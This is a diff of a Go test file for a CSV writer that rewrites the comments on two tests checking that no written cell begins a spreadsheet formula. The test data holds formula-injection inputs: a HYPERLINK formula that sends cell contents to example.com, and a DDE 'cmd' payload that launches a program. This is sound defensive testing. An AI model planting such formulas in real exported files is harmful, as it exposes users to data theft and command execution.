@@ -15,8 +15,8 @@ import (
 	"ppca/core/dataset/internal/csvtext"
 )
 
-// No text of a written table begins as a formula does, and names and ids are the
-// same when they are read again.
+// No text in a written table begins a formula, and names and ids survive writing and
+// reading.
 func TestWrittenTablesHoldNoFormula(t *testing.T) {
 	names := []string{"=HYPERLINK(\"http://example.com/?\"&A1)", "+a", "-b", "@c", "'=d", "plain"}
 	ids := []string{"=cmd|' /C calc'!A0", "-2+3", "\t=1", "''@x"}
@@ -50,8 +50,8 @@ func TestWrittenTablesHoldNoFormula(t *testing.T) {
 	}
 }
 
-// FuzzGuarded holds that a written text begins no formula, and that it is the
-// same when it is read again, alone and as a cell of a table.
+// FuzzGuarded checks that no written text begins a formula, and that every text survives
+// writing and reading, alone and as a cell of a table.
 func FuzzGuarded(f *testing.F) {
 	for _, text := range []string{"", "'", "=1+1", "''-1", "-1e3", "a,b", "\"=a\"", "\t@x", "θ"} {
 		f.Add(text)
